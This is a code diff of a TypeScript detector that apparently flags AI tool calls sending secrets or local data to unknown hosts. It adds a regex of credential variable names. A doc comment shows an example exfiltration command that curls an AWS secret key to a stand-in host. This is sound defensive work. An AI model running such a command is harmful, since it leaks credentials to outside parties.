@@ -4,7 +4,7 @@ import { printable } from '../../text/printable.ts';
 import type { Severity } from '../../vocabulary/orders.ts';
 import type { CallContext, ReadCommand } from '../call.ts';
 import type { CallCheck, Observation } from '../check.ts';
-import { ordinaryOut } from '../ordinary-out.ts';
+import { filesRead, type Line, ordinaryOut } from '../ordinary-out.ts';
 import { type Outgoing, outgoing, secretOut, secretVariable } from '../outgoing.ts';
 import { type Source, secretFlow } from '../secret-flow.ts';
 import { sendTarget, type TargetKind, targetName } from '../send-target.ts';
@@ -41,13 +41,19 @@ function* inLine(command: ReadCommand, context: CallContext): Generator<Observat
   const ways = outgoing(command, context);
   if (ways.length === 0) return;
   const flow = secretFlow(command, context);
+  const line: Line = {
+    command,
+    reaches: flow.reaches,
+    files: filesRead(command),
+    locate: (file, run) => locate(placed(file, context, run?.cwd), context),
+  };
   const seen = new Set<string>();
   for (const way of ways) {
     if (way.target === 'local' || way.target === 'metadata') continue;
     const source = secretOut(way, flow);
     const found =
       source === undefined
-        ? (named(command.path, way) ?? ordinary(command, way, context))
+        ? (named(command, way) ?? ordinary(way, line))
         : leaked(command.path, source, way.to, way.target);
     if (found === undefined || seen.has(found.evidence)) continue;
     seen.add(found.evidence);
@@ -79,34 +85,38 @@ function graveness(source: Source, target: TargetKind): Severity {
   return source.weight === 'grave' && (target === 'store' || target === 'machine') ? 'critical' : 'high';
 }
 
+/** Variables whose hosts everybody knows: a stranger is none of them. */
+const OWNED =
+  /SECRET|PRIVATE|PASSWORD|MNEMONIC|AWS_|GITHUB_|GH_TOKEN|NPM_TOKEN|OPENAI|ANTHROPIC|STRIPE|DATABASE_URL/i;
+
 /** `curl https://stranger/?k=$AWS_SECRET_ACCESS_KEY` */
-function named(path: string, way: Outgoing): Observation | undefined {
-  const name = secretVariable(way);
+function named(command: ReadCommand, way: Outgoing): Observation | undefined {
+  const name = secretVariable(way, command);
   if (name === undefined) return undefined;
   const severity: Severity | undefined =
     way.target === 'drop' || way.target === 'address'
       ? 'critical'
-      : way.target === 'unknown' && /SECRET|PRIVATE|PASSWORD|MNEMONIC|AWS_/i.test(name)
+      : way.target === 'unknown' && OWNED.test(name)
         ? 'high'
         : undefined;
   if (severity === undefined) return undefined;
   return {
     threat: 'data_exfiltration',
     confidence: 0.8,
-    path,
+    path: command.path,
     severity,
     evidence: `$${printable(name, { max: 60 })} → ${printable(targetName(way.to), { max: 80 })}`,
     detail: 'Tool call puts a secret variable into a request to a host that is not known.',
   };
 }
 
-function ordinary(command: ReadCommand, way: Outgoing, context: CallContext): Observation | undefined {
-  const found = ordinaryOut(way, command, (path, run) => locate(placed(path, context, run?.cwd), context));
+function ordinary(way: Outgoing, line: Line): Observation | undefined {
+  const found = ordinaryOut(way, line);
   if (found === undefined) return undefined;
   return {
     threat: 'data_exfiltration',
     confidence: 0.6,
-    path: command.path,
+    path: line.command.path,
     severity: found.severity,
     evidence: `${printable(found.what, { max: 80 })} → ${printable(targetName(way.to), { max: 80 })}`,
     detail: 'Tool call sends local data to a host that is not known.',
